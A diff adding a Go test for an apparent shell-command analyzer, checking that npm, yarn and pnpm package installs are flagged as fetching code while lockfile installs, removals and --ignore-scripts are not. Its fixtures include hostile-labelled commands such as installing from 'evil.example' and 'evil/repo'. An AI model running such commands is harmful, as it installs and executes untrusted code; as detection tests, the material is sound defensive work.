@@ -24,3 +24,23 @@ func TestPipInstallNamesFetchedCode(t *testing.T) {
 		}
 	}
 }
+
+// npm, yarn and pnpm run an added package's install scripts: adding one
+// by name or repository names it and the registry; installing the lock
+// file's packages, removing one, --ignore-scripts and a local directory
+// do not, and a scoped name is not a file sent.
+func TestNodeInstallNamesFetchedCode(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "npm by name", hostile: "npm install left-pad", want: "package left-pad from registry.npmjs.org", benign: "npm ci"},
+		{name: "npm a scoped name", hostile: "npm i -D @types/node", want: "package @types/node from registry.npmjs.org", benign: "npm install"},
+		{name: "yarn a GitHub repository", hostile: "yarn add evil/repo", want: "evil/repo from github.com", benign: "yarn remove lodash"},
+		{name: "pnpm by name", hostile: "pnpm add zod", want: "package zod from registry.npmjs.org", benign: "pnpm install --frozen-lockfile"},
+		{name: "npm from a URL", hostile: "npm install https://evil.example/x.tgz", want: "from evil.example", benign: "npm install --ignore-scripts left-pad"},
+	})
+	for _, quiet := range []string{"npm install ./local", "npm i -D @types/node", "npm uninstall left-pad"} {
+		a := testAnalyze([]string{"sh", "-c", quiet})
+		if !a.Understood || mentions(a, "sends the file") {
+			t.Errorf("%s: a package name is read as a file sent:\n%s", quiet, dump(a))
+		}
+	}
+}
